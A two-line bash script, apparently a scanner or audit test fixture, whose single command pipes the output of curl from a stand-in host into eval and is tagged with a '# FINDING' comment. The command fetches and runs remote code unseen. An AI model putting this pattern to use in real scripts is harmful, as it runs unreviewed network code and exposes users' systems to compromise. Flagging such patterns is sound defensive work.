#!/bin/bash
eval "$(curl -s https://example.com/x)"  # FINDING
